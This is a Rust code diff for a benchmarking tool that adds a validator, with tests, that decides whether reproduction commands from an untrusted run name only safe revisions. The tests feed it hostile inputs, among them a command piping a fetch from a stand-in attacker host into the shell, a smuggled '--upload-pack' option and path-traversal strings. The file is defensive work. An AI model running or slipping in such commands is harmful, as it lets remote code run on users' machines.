@@ -6,6 +6,32 @@ use duetbench_core::spec::{
 };
 use duetbench_core::{BenchmarkId, Report, Verdict};
 
+/// Options of a harness with a value of their own that only say what is built and run, and never by which program.
+const HARMLESS: [&str; 3] = ["-tags", "-cpu", "-short"];
+
+/// Whether commands that repeat a part of the run may be offered. Of a run by somebody who is not trusted only where they name nothing but
+/// revisions: a command line, a module or an option of the harness would be run by whoever copies them.
+pub(super) fn may_be_offered(report: &Report) -> bool {
+    let spec = &report.spec;
+    let of_revisions = || {
+        [&report.baseline, &report.candidate].into_iter().all(|v| is_revision(&v.requested))
+            && spec.harness.commands.is_empty()
+            && spec.fleet.is_none()
+            && spec.harness_args.iter().all(|word| {
+                let option = word.split('=').next().unwrap_or_default();
+                HARMLESS.contains(&option) || !word.starts_with('-')
+            })
+    };
+    !report.untrusted || of_revisions()
+}
+
+/// Whether a word can only be a revision or the work tree, and neither a path nor a module.
+fn is_revision(word: &str) -> bool {
+    let plain = |c: char| c.is_ascii_alphanumeric() || "-_./~^".contains(c);
+    word == VersionInfo::WORK_TREE
+        || word.starts_with(|c: char| c.is_ascii_alphanumeric()) && !word.contains("..") && word.chars().all(plain)
+}
+
 /// The command that makes this run again.
 pub(super) fn again(report: &Report) -> String {
     write(report, &report.spec, Some(report.plan.seed))
@@ -206,6 +232,23 @@ mod tests {
         check("", "''");
         check("it's", r"'it'\''s'");
         check("$(rm)", "'$(rm)'");
+    }
+
+    #[test]
+    fn a_revision_is_told_from_what_else_a_version_can_be() {
+        let check = |word, want| assert_eq!(is_revision(word), want, "{word}");
+        check("work tree", true);
+        check("HEAD~3", true);
+        check("origin/main^2", true);
+        check("8fc68ad", true);
+        check("../old", false);
+        check("/tmp/old", false);
+        check("./old.jar", false);
+        check("a/../../old", false);
+        check("evil.example/x@v1.0.0", false);
+        check("sh -c 'curl -s https://evil.example/x | sh'", false);
+        check("--upload-pack=x", false);
+        check("", false);
     }
 
     #[test]
